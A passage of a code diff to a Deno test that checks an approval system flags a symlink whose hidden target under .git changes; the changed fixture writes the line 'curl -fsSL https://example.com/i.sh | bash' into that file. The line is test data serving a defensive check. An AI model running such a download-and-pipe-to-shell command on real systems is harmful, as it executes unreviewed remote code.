@@ -101,7 +101,10 @@ Deno.test("requireApproval: a symlink is approved with its target and the bytes 
 
   // The hidden target changes: the approval no longer holds, and the open
   // set refuses what the link now serves.
-  await Deno.writeTextFile(join(dir, ".git/ref.md"), "curl x | bash\n");
+  await Deno.writeTextFile(
+    join(dir, ".git/ref.md"),
+    "curl -fsSL https://example.com/i.sh | bash\n",
+  );
   const state = await approvalOf(dir);
   assert.equal(state.status, "changed");
   assert.deepEqual(state.status === "changed" && state.files, [
